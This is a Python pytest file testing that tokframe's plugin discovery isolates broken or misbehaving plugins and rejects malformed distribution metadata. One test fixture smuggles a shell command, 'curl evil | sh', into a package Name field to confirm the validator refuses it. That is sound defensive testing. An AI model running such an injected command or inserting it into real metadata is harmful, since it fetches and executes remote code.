"""Discovery: whatever one plugin does wrong is written on its record and harms no other."""

from __future__ import annotations

import gc
import io
import locale
import logging
import os
import signal
import sys
import textwrap
import warnings
from importlib import metadata

import numpy as np
import pytest
from support.hosts import GOOD, by_name, declares, host, put_distribution

import tokframe
from tokframe.errors import UnknownNameError
from tokframe.plugins import metadata as distributions
from tokframe.plugins.discovery import Host, PluginWarning


def test_a_good_plugin_is_recorded_and_its_names_resolve(plugin):
    found = host(plugin("acme-good", GOOD, entry_point="quant", version="2.1"))
    (record,) = found.records
    assert (record.distribution, record.version, record.status, record.reason) == ("acme-good", "2.1", "ok", "")
    assert record.entry_point.startswith("quant = acme_good")
    assert record.components == ("quantizer good",)
    assert record.import_ms > 0 and record.heavy == () and record.location == ""
    spec = found.registry.component("quantizer", "good")
    assert (spec.distribution, spec.distribution_version) == ("acme-good", "2.1")


def test_records_are_ordered_by_distribution_and_are_a_copy(plugin):
    found = host(plugin("zeta"), plugin("Alpha"), plugin("mid"))
    assert [r.distribution for r in found.records] == ["Alpha", "mid", "zeta"]
    found.records.clear()
    assert len(found.records) == 3


BROKEN = {
    "import fails": ("import module_that_is_not_there", "ModuleNotFoundError: No module named 'module_that"),
    "raises at import": ("raise ValueError('bad day')", "ValueError: bad day"),
    "syntax": ("def (:", "SyntaxError"),
    "exits": ("import sys\nsys.exit(3)", "called sys.exit(3) when imported"),
    "hook raises": ("@tokframe.hookimpl\ndef tokframe_components():\n    return 1 / 0", "ZeroDivisionError"),
    "hook returns none": ("@tokframe.hookimpl\ndef tokframe_components():\n    return None", "TypeError"),
    "hook with arguments": ("@tokframe.hookimpl\ndef tokframe_components(x):\n    return []", "'x'"),
    "misspelled hook": ("@tokframe.hookimpl\ndef tokframe_component():\n    return []", "tokframe_component"),
    "no spec": ("@tokframe.hookimpl\ndef tokframe_components():\n    return ['fsq']", "got str"),
    "half a list": (GOOD.replace("]", ", None]"), "got NoneType"),
    "bad name": (declares("Bad Name"), "'Bad Name' is not lower-case words"),
    "bad kind": (declares("x", "quantiser"), "unknown kind 'quantiser'"),
    "same name twice": (GOOD.replace("[tok", "2 * [tok"), "declares quantizer 'good' twice"),
    "tokenizers hook": ("@tokframe.hookimpl\ndef tokframe_tokenizers():\n    raise OSError('disk')", "OSError: disk"),
}


@pytest.mark.parametrize(("source", "reason"), BROKEN.values(), ids=BROKEN)
def test_a_broken_plugin_is_listed_with_its_reason_and_harms_no_other(plugin, source, reason):
    found = host(
        plugin("acme-broken", source), plugin("zz-fine", declares("fine")), plugin("aa-fine", declares("first"))
    )
    records = by_name(found)
    assert records["acme-broken"].status == "broken"
    assert reason in records["acme-broken"].reason
    assert records["acme-broken"].components == ()
    assert records["aa-fine"].status == records["zz-fine"].status == "ok"
    assert found.registry.names("quantizer") == ["fine", "first"]
    assert found.commands() == [] and found.migrations() == []
    with pytest.raises(UnknownNameError) as caught:
        found.registry.component("quantizer", "missing")
    assert "Not loaded: acme-broken: broken" in str(caught.value) and reason in str(caught.value)


@pytest.mark.parametrize("value", ["nowhere_to_be_found", "json:no.such.attribute", "json:", "not a module!"])
def test_an_entry_point_that_leads_nowhere_is_broken(plugin, value):
    record = host(plugin("acme-lost", value=value)).records[0]
    assert record.status == "broken" and record.reason
    if value in ("json:", "not a module!"):
        assert "expected 'package.module' or 'package.module:object'" in record.reason


class Panic(BaseException):
    """What a Rust extension raises where it panics."""


class UnspeakableError(Exception):
    def __str__(self):
        raise ValueError("no text")


class RudeName(type):
    @property
    def __name__(cls):
        raise ValueError("no name")


class RudeError(Exception, metaclass=RudeName):
    def __str__(self):
        raise KeyboardInterrupt


ANY_CLASS = {
    "KeyboardInterrupt": "raise KeyboardInterrupt",
    "a cancelled task": "import asyncio\nraise asyncio.CancelledError",
    "GeneratorExit": "raise GeneratorExit",
    "StopIteration": "raise StopIteration",
    "RecursionError": "def deeper(): deeper()\ndeeper()",
    "an exit that says success": "raise SystemExit(0)",
    "a class of its own": "from plugins.test_discovery import Panic\nraise Panic",
    "an error without text": "from plugins.test_discovery import UnspeakableError\nraise UnspeakableError",
    "an error whose text interrupts": "from plugins.test_discovery import RudeError\nraise RudeError",
}


@pytest.mark.parametrize("source", ANY_CLASS.values(), ids=ANY_CLASS)
@pytest.mark.parametrize("hook", ["", "components", "tokenizers", "commands", "migrations"])
def test_whatever_a_plugin_raises_anywhere_it_harms_no_other(plugin, monkeypatch, source, hook):
    monkeypatch.setitem(sys.modules, "plugins.test_discovery", sys.modules[__name__])
    if hook:
        source = f"@tokframe.hookimpl\ndef tokframe_{hook}():\n" + textwrap.indent(source, "    ")
    found = host(plugin("acme-rude", source), plugin("zz-fine", declares("fine")))
    assert by_name(found)["zz-fine"].status == "ok"
    if hook in ("commands", "migrations"):
        with pytest.warns(PluginWarning, match=f"{hook} of plugin acme-rude:acme-rude left out"):
            assert getattr(found, hook)() == []
    else:
        assert by_name(found)["acme-rude"].status == "broken" and by_name(found)["acme-rude"].reason


def test_an_interrupt_by_a_signal_is_one(plugin):
    with pytest.raises(KeyboardInterrupt):
        _ = host(plugin("acme-slow", "import signal\nsignal.raise_signal(signal.SIGINT)")).records


SETTINGS = {
    "warning filters": ("warnings.simplefilter('error')", lambda: list(warnings.filters)),
    "the working directory": ("os.chdir('/')", os.getcwd),
    "a recursion limit too low": ("sys.setrecursionlimit(200)", sys.getrecursionlimit),
    "a signal handler": ("signal.signal(signal.SIGINT, signal.SIG_IGN)", lambda: signal.getsignal(signal.SIGINT)),
    "the alarm": ("signal.alarm(60)", lambda: signal.getitimer(signal.ITIMER_REAL)),
    "stdout": ("sys.stdout = None", lambda: sys.stdout),
    "the path": ("sys.path[:] = []", lambda: list(sys.path)),
    "stdin": ("sys.stdin = None", lambda: sys.stdin),
    "the hook for errors": ("sys.excepthook = print", lambda: sys.excepthook),
    "the locale": ("locale.setlocale(locale.LC_ALL, 'C')", lambda: locale.setlocale(locale.LC_ALL)),
    "errors of floats": ("import numpy\nnumpy.seterr(all='raise')", np.geterr),
    "the collector of garbage": ("import gc\ngc.disable()", gc.isenabled),
    "permissions of new files": ("os.umask(0o777)", lambda: [mask := os.umask(0o077), os.umask(mask)][0]),
    "a tracer": ("sys.setprofile(lambda *_: None)", sys.getprofile),
    "the root logger": (
        "logging.basicConfig(level=1, force=True)",
        lambda: (logging.root.level, logging.root.handlers[:]),
    ),
}


@pytest.mark.parametrize(("source", "state"), SETTINGS.values(), ids=SETTINGS)
def test_what_a_plugin_sets_for_the_process_is_restored(plugin, monkeypatch, source, state):
    if "locale" in source:
        before = locale.setlocale(locale.LC_ALL)
        monkeypatch.setattr(locale, "_tokframe_test", before, raising=False)
        locale.setlocale(locale.LC_ALL, "C.UTF-8")
    try:
        expected = state()
        (record,) = host(
            plugin("acme-sets", f"import locale, logging, os, signal, sys, warnings\n{source}\n" + GOOD)
        ).records
        assert (record.status, record.reason) == ("ok", "")
        assert state() == expected
    finally:
        if "locale" in source:
            locale.setlocale(locale.LC_ALL, before)


@pytest.mark.parametrize("taken", ["sys.stdout.buffer", "sys.stdout.detach()"])
def test_a_plugin_that_wraps_stdout_leaves_a_stdout(plugin, monkeypatch, taken):
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO()))
    source = f"import io, sys\nsys.stdout = io.TextIOWrapper({taken}, encoding='utf-8')\n" + GOOD
    assert host(plugin("acme-wraps", source)).records[0].status == "ok"
    gc.collect()
    print("still open", flush=True)


def test_what_a_plugin_adds_to_the_path_comes_last(plugin):
    before = list(sys.path)
    try:
        _ = host(plugin("acme-path", "import sys\nsys.path.insert(0, '/acme/vendored')\n" + GOOD)).records
        assert sys.path == [*before, "/acme/vendored"]
    finally:
        sys.path[:] = before


def test_a_recursion_limit_that_is_raised_stays(plugin):
    before = sys.getrecursionlimit()
    try:
        _ = host(plugin("acme-deep", f"import sys\nsys.setrecursionlimit({before + 7})\n" + GOOD)).records
        assert sys.getrecursionlimit() == before + 7
    finally:
        sys.setrecursionlimit(before)


def test_a_plugin_that_reads_stdin_takes_nothing_from_it(plugin, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO("the user's text\n"))
    assert host(plugin("acme-asks", "input()")).records[0].reason.startswith("EOFError")
    assert sys.stdin.read() == "the user's text\n"


def test_the_module_of_another_distribution_as_entry_point_breaks_neither(plugin):
    shared = plugin("acme-owner", GOOD, module="acme_shared_mod")
    found = host(plugin("aa-borrows", value="acme_shared_mod"), shared)
    assert {record.status for record in found.records} == {"conflict"}
    assert found.registry.component("quantizer", "acme-owner/good")


MISTAKES = {
    "forgotten hookimpl": (
        "def tokframe_components():\n    return []",
        "is @hookimpl missing from tokframe_components?",
    ),
    "a spec, no list": (GOOD.replace("[tok", "tok").replace(")]", ")"), "expected a list of ComponentSpec"),
    "a text": (
        "@tokframe.hookimpl\ndef tokframe_components():\n    return 'fsq'",
        "tokframe_components returned 'fsq'",
    ),
    "no return": ("@tokframe.hookimpl\ndef tokframe_tokenizers():\n    pass", "expected a list of TokenizerSpec"),
    "misspelled hook": ("@tokframe.hookimpl\ndef tokframe_compnents(): pass", "did you mean 'tokframe_components'?"),
    "a hook of nobody": ("@tokframe.hookimpl\ndef setup(): pass", "hooks are tokframe_components"),
    "no dependency": ("import not_there_at_all", "No module named 'not_there_at_all'. Try: pip install acme-author"),
    "no end": ("@tokframe.hookimpl\ndef tokframe_components():\n    while True: yield None", "more than 1,000"),
    "summary": (GOOD.replace("target=", "summary=None, target="), "summary None of 'good' is not a text"),
    "extra": (GOOD.replace("target=", "extra=['train'], target="), "extra ['train'] of 'good' is not a text"),
}


@pytest.mark.parametrize(("source", "said"), MISTAKES.values(), ids=MISTAKES)
def test_a_mistake_of_an_author_is_told_with_its_remedy(plugin, source, said):
    (record,) = host(plugin("acme-author", source)).records
    assert record.status == "broken" and said in record.reason


def test_what_a_plugin_declares_is_kept_as_plain_text(plugin):
    source = """
    class Rude(str):
        def rude(self, *_): raise RuntimeError("asked")
        __eq__ = __hash__ = __str__ = __format__ = __repr__ = __lt__ = rude
    class Spec(tokframe.ComponentSpec):
        pass
    @tokframe.hookimpl
    def tokframe_components():
        return [Spec(kind=Rude("quantizer"), name=Rude("rude"), target=Rude("a:B"), summary=Rude("x"))]
    @tokframe.hookimpl
    def tokframe_commands():
        import click
        command = click.Command("x")
        command.name = Rude("x")
        return [command]
    """
    found = host(plugin("acme-rude", source), plugin("zz-fine", declares("fine")))
    assert found.registry.names("quantizer") == ["fine", "rude"]
    assert found.records[0].components == ("quantizer rude",)
    (spec, _) = sorted(found.registry.specs(), key=lambda spec: spec.name)[::-1]
    assert type(spec) is tokframe.ComponentSpec and {type(spec.name), type(spec.summary)} == {str}


@pytest.mark.skipif(os.name == "nt", reason="closes what it does not own")
def test_a_command_keeps_its_output_whatever_a_plugin_closes_or_prints_at_the_end(tmp_path, fresh):
    put_distribution(tmp_path, "acme-rude", "acme_rude_mod")
    source = "import atexit, os\natexit.register(print, 'BYE')\nfor number in range(3): os.close(number)\n"
    (tmp_path / "acme_rude_mod.py").write_text(source, encoding="utf-8")
    program = """
    import sys
    sys.path.insert(0, sys.argv.pop(1))
    from tokframe.cli.main import main
    sys.exit(main())
    """
    assert fresh(program, tmp_path, "encode", "bpe", "--help").stdout.startswith("Usage: ")
    done = fresh(program, tmp_path, "components", "--kind", "tokenizer")
    assert "BYE" in done.stderr and "BYE" not in done.stdout and "bpe" in done.stdout


def test_a_plugin_without_a_hook_is_told_from_one_that_adds_nothing_today(plugin):
    assert host(plugin("acme-bare", "x = 1")).records[0].reason == "adds nothing: is @hookimpl missing?"
    nothing = "@tokframe.hookimpl\ndef tokframe_components():\n    return []"
    assert host(plugin("acme-none", nothing)).records[0].reason == ""


def test_an_entry_point_may_name_an_object(plugin):
    source = """
    class Plugin:
        @tokframe.hookimpl
        def tokframe_components(self):
            return []
    plugin = Plugin()
    """
    record = host(plugin("acme-object", source, module="acme_object_mod", value="acme_object_mod:plugin")).records[0]
    assert (record.status, record.reason) == ("ok", "")


@pytest.mark.parametrize(
    "requirement", ["tokframe<0.1", "tokframe>=9", "Tokframe (>=9)", "tokframe==0.0.*; python_version>'3'"]
)
def test_an_incompatible_plugin_is_never_imported(plugin, requirement):
    point = plugin("acme-old", "raise RuntimeError('must not run')", module="acme_old_mod", requires=[requirement])
    record = host(point).records[0]
    assert record.status == "incompatible"
    assert record.reason.startswith("needs tokframe") and tokframe.__version__ in record.reason
    assert "acme_old_mod" not in sys.modules


@pytest.mark.parametrize(
    "requirement",
    [
        f"tokframe=={tokframe.__version__}",
        "tokframe[parquet]>=0.0.1",
        "tokframe-lm>=99",
        "tokframe>=9; extra == 'next'",
        "tokframe>=9; python_version < '3'",
        "numpy>=99",
    ],
)
def test_a_requirement_that_is_met_or_does_not_apply_is_no_obstacle(plugin, requirement):
    assert host(plugin("acme-new", GOOD, requires=[requirement])).records[0].status == "ok"


def test_a_pre_release_of_tokframe_meets_a_requirement(plugin, monkeypatch):
    monkeypatch.setattr(distributions, "__version__", "0.2.0rc1")
    assert host(plugin("acme-new", GOOD, requires=["tokframe>=0.1,<0.3"])).records[0].status == "ok"


def test_a_requirement_nobody_can_read_is_said(plugin):
    record = host(plugin("acme-odd", GOOD, requires=["tokframe >=> 2"])).records[0]
    assert record.status == "incompatible" and "'tokframe >=> 2' cannot be read" in record.reason


def test_metadata_that_raises_makes_one_plugin_broken(plugin, monkeypatch):
    point, distribution = plugin("acme-odd", GOOD)
    monkeypatch.setattr(type(distribution), "requires", property(lambda self: 1 / 0), raising=False)
    record = host((point, distribution)).records[0]
    assert record.status == "broken" and "metadata cannot be read" in record.reason


def test_a_plugin_that_imports_a_framework_when_discovered_is_named(plugin, monkeypatch):
    monkeypatch.delitem(sys.modules, "jax", raising=False)
    found = host(plugin("acme-heavy", "import sys, types\nsys.modules['jax'] = types.ModuleType('jax')\n" + GOOD))
    try:
        with pytest.warns(PluginWarning, match="plugin acme-heavy imports jax when it is discovered"):
            (record,) = found.records
    finally:
        sys.modules.pop("jax", None)
    assert record.status == "ok" and record.heavy == ("jax",)
    assert found.registry.names("quantizer") == ["good"]


def test_an_editable_install_shows_where_it_is(plugin):
    url = '{"url": "file:///home/me/acme", "dir_info": {"editable": true}}'
    assert host(plugin("acme-e", files={"direct_url.json": url})).records[0].location == "/home/me/acme"
    for other in ("not json", "[]", '{"url": "https://x", "archive_info": {}}', '{"dir_info": 3}'):
        assert host(plugin("acme-e", files={"direct_url.json": other})).records[0].location == ""


def test_a_strangers_damaged_metadata_does_not_end_discovery(tmp_path, monkeypatch):
    damaged = tmp_path / "stranger-1.0.dist-info"
    damaged.mkdir()
    (damaged / "METADATA").write_text("Metadata-Version: 2.1\nName: stranger\nVersion: 1.0\n", encoding="utf-8")
    (damaged / "entry_points.txt").write_text("[tokframe]\nno equals sign here\n", encoding="utf-8")
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.warns(PluginWarning, match="stranger-1.0.dist-info cannot be read"):
        found = distributions.installed()
    assert all(isinstance(point, metadata.EntryPoint) for point, _ in found)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs pipes with names")
@pytest.mark.parametrize("pipe", ["METADATA", "PKG-INFO", "entry_points.txt", "direct_url.json", ".egg-info"])
def test_a_pipe_among_the_metadata_is_not_waited_for_and_harms_no_other(tmp_path, monkeypatch, pipe):
    put_distribution(tmp_path, "acme-pipe", "this_adds_nothing")
    put_distribution(tmp_path, "acme-good", "acme_good_mod")
    (tmp_path / "acme_good_mod.py").write_text("import tokframe\n" + GOOD, encoding="utf-8")
    (folder,) = tmp_path.glob("acme_pipe*")
    place = (tmp_path if pipe == ".egg-info" else folder) / pipe
    place.unlink(missing_ok=True)
    os.mkfifo(place)
    monkeypatch.syspath_prepend(str(tmp_path))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        found = by_name(Host(allow=["acme-pipe", "acme-good"]))
    assert found["acme-good"].status == "ok"
    told = [str(warning.message) for warning in caught] + [record.reason for record in found.values()]
    assert pipe == "direct_url.json" or any("is not a regular file" in text for text in told)


UNSOUND = {
    "no METADATA": (None, "has no Name"),
    "no Name": (b"Metadata-Version: 2.1\nVersion: 1.0\n", "has no Name"),
    "no UTF-8": (b"Name: \xff\xfe\n", "cannot be read"),
    "the name of another": (b"Name: tokframe-bpe\nVersion: 1.0\n", "says that it is 'tokframe-bpe'"),
    "a command": (b"Name: acme; curl evil | sh\nVersion: 1.0\n", "is not a name"),
}


@pytest.mark.parametrize(("text", "reason"), UNSOUND.values(), ids=UNSOUND)
@pytest.mark.parametrize(
    "folder",
    ["acme_odd-1.0.dist-info", "acme_odd-1.0.DIST-INFO", "acme_odd.egg-info", "acme_odd-1.0-py3.11.egg/EGG-INFO"],
)
def test_a_distribution_without_a_name_of_its_own_is_broken_and_not_imported(
    tmp_path, monkeypatch, folder, text, reason
):
    info = tmp_path / "site" / folder
    info.mkdir(parents=True)
    place = info.parent  # the entry of the import path
    if text is not None:
        (info / ("METADATA" if "dist" in folder.lower() else "PKG-INFO")).write_bytes(text)
    (info / "entry_points.txt").write_text("[tokframe]\nodd = acme_odd_mod\n", encoding="utf-8")
    (place / "acme_odd_mod.py").write_text("raise RuntimeError", encoding="utf-8")
    put_distribution(tmp_path / "later", "acme-odd", "acme_odd_mod", version="2.0")
    monkeypatch.syspath_prepend(str(place))
    records = [record for record in Host(allow=["acme-odd", "tokframe-bpe"]).records if record.status != "disabled"]
    assert [(r.distribution, r.status) for r in records if "odd" in r.distribution] == [("acme-odd", "broken")]
    assert reason in by_name(Host(allow=["acme-odd"]))["acme-odd"].reason
    assert all(r.status == "ok" for r in records if r.distribution != "acme-odd")
    assert by_name(Host(deny=["acme_odd"]))["acme-odd"].status == "disabled"
    assert "acme_odd_mod" not in sys.modules
    sys.path.append(str(tmp_path / "later"))  # what an upgrade left behind does not hide what it installed
    try:
        found = [r.version for r in Host(allow=["acme-odd"]).records if r.distribution == "acme-odd"]
    finally:
        sys.path.remove(str(tmp_path / "later"))
    assert len(found) == 2 and "2.0" in found


def test_of_two_copies_of_a_distribution_the_first_on_the_path_counts(tmp_path, monkeypatch):
    for place, version in (("a", "2.0"), ("b", "1.0")):
        put_distribution(tmp_path / place, "acme-twice", "acme_twice_nowhere", version=version)
    for place in ("b", "a"):
        monkeypatch.syspath_prepend(str(tmp_path / place))
    found = [d.version for point, d in distributions.installed() if d.name == "acme-twice"]
    assert found == ["2.0"]
